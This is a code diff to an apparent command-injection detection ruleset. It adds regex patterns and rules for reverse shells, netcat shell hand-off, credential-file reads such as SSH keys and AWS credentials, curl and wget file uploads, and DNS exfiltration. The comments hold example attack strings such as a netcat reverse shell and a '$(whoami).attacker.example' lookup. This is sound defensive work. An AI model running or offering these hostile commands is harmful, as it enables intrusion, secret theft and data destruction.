@@ -10,7 +10,8 @@ export const commandInjection: Family = {
     SEP_START: ['^ ?([;|&\\n\\x01]|&&|\\|\\||\\$\\()', '^[\\\'"]?\\)? ?([;|&\\n]|&&|\\|\\|)'],
     SEP_MID: ['[\\\'"\\w)\\]][ ]?(;|&&|\\|\\||\\|)[ ]?', '\\x01'],
     CMD: [`\\b${CMDS}\\b`, '/(usr/)?s?bin/[a-z]'],
-    VALUE_SEP: ['\\d[ ]?(;|&&|\\|\\||\\||&)[ ]?'],
+    // A value, then a separator: typed (;|&) or an encoded line break (decoded %0a becomes \x01: it was hidden).
+    VALUE_SEP: ['\\d[ ]?(;|&&|\\|\\||\\||&)[ ]?', '\\d\\x01'],
     CMD_TAIL: [`\\b${CMDS} ?[;|&]?$`],
     DESTRUCTIVE: ['\\brm -[a-z]{0,2}[rf][a-z]{0,2} [/~*]', '\\bmkfs(\\.[a-z0-9]{1,5})? /dev/', '\\bdd if=/dev/(zero|random|urandom)',
       ':\\(\\) ?\\{ ?: ?\\| ?: ?& ?\\} ?; ?:', '> ?/dev/sd[a-z]', '\\bchmod -r 777 /', '\\bformat c:'],
@@ -24,9 +25,22 @@ export const commandInjection: Family = {
     VALUE_BACKTICK: ['[=(:]`[a-z/]'],
     IFS: ['\\$\\{ifs\\}', '\\$ifs\\b', '\\$\\{path:0:1\\}', '\\$\\{home:0:1\\}'],
     REVERSE_SHELL: ['/dev/(tcp|udp)/', '\\bbash -i\\b', '\\bsh -i\\b', '\\bnc(at)? -[a-z]{0,2}e\\b', '\\bsocket ?\\( ?s ?,',
+      '\\bpty\\.spawn ?\\(', '\\bos\\.dup2 ?\\(',
       '\\bpowershell(\\.exe)? -(e|enc|encodedcommand|nop|noprofile|w|windowstyle|ep|exec|executionpolicy)\\b', ' -(enc|encodedcommand) [a-z0-9+/]', '\\biex ?\\(', '\\binvoke-expression\\b',
       'new-object (system\\.)?net\\.webclient', '\\bdownloadstring\\b', '\\bcertutil -urlcache', ],
-    SYSFILE: ['/etc/(passwd|shadow|sudoers)\\b', '\\bwin\\.ini\\b', '\\bboot\\.ini\\b', '/proc/self/(environ|cmdline|fd)'],
+    SYSFILE: ['/etc/(passwd|shadow|sudoers)\\b', '\\bwin\\.ini\\b', '\\bboot\\.ini\\b', '/proc/self/(environ|cmdline|fd)',
+      // Private keys, not the .pub beside them.
+      '\\.ssh/id_(rsa|dsa|ecdsa|ed25519)[ "\'`;|&)]', '\\.ssh/id_(rsa|dsa|ecdsa|ed25519)$', '\\.aws/credentials\\b'],
+    // netcat to a host and port that hands it a shell: "nc 10.0.0.1 4444 -e /bin/sh".
+    NC_HOST: ['\\bnc(at)? [0-9]'],
+    EXEC_SHELL: [' -e (/usr)?(/bin/)?(ba|z|da)?sh\\b', ' -e cmd(\\.exe)?\\b'],
+    // Uploading a file (curl -d @file, -T, --upload-file, wget --post-file): exfiltration once chained into a value.
+    UPLOAD_FLAG: [' (-d|--data|--data-binary|-t|--upload-file) ?@', ' --post-file'],
+    // A substitution whose output becomes part of a host name: DNS exfiltration ($(whoami).attacker.example).
+    SUBST_DNS: ['\\) ?\\.[a-z0-9]', '` ?\\.[a-z0-9]'],
+    // A command substitution glued to a value (guest`id`), not inline code after a space.
+    WORD_BACKTICK: ['[a-z0-9_]`[a-z/]'],
+    CLOSE_TICK: ['`'],
     CODE_EXEC: ['\\bsystem ?\\( ?[\'"]', '\\beval ?\\( ?[\'"]', '\\bassert ?\\( ?[\'"]', '\\bpassthru ?\\( ?[\'"]', '\\bshell_exec ?\\( ?[\'"]',
       '\\bexec ?\\( ?[\'"]', '\\bpopen ?\\( ?[\'"]', '\\bproc_open ?\\( ?[\'"]', '\\b__import__ ?\\( ?[\'"]os', '\\bos\\.system ?\\( ?[\'"]'],
     SHELL_REF: ['\\brequire ?\\( ?[\'"]child_process', '<\\?php', '\\$_(get|post|request|cookie|server)\\b', '\\b/bin/(ba)?sh\\b', '\\bcmd\\.exe\\b'],
@@ -55,6 +69,10 @@ export const commandInjection: Family = {
     { id: 'cmdi.sep-shell-ref', seq: ['SEP_START', 'SHELL_REF'], within: 40, severity: 'high', description: 'injected shell or PHP code' },
     { id: 'cmdi.sep-code-exec', seq: ['SEP_START', 'CODE_EXEC'], within: 40, severity: 'high', description: 'injected code-execution call' },
     { id: 'cmdi.quote-break', confirm: 'cmdArgs', seq: ['QUOTE_BREAK', 'CMD'], within: 0, severity: 'high', description: 'argument break-out into a command' },
+    { id: 'cmdi.nc-exec', seq: ['NC_HOST', 'EXEC_SHELL'], within: 60, severity: 'high', description: 'netcat handing a shell to a remote host' },
+    { id: 'cmdi.chained-upload', seq: ['SEP_MID', 'CMD', 'UPLOAD_FLAG'], within: 40, severity: 'high', description: 'chained command uploading a file' },
+    { id: 'cmdi.subst-dns', overlap: true, seq: ['SUBST', 'CMD', 'SUBST_DNS'], within: 30, severity: 'high', description: 'command output sent out in a DNS name' },
+    { id: 'cmdi.word-backtick', overlap: true, seq: ['WORD_BACKTICK', 'CMD', 'CLOSE_TICK'], within: 24, severity: 'high', description: 'command substitution glued to a value' },
   ],
 };
 
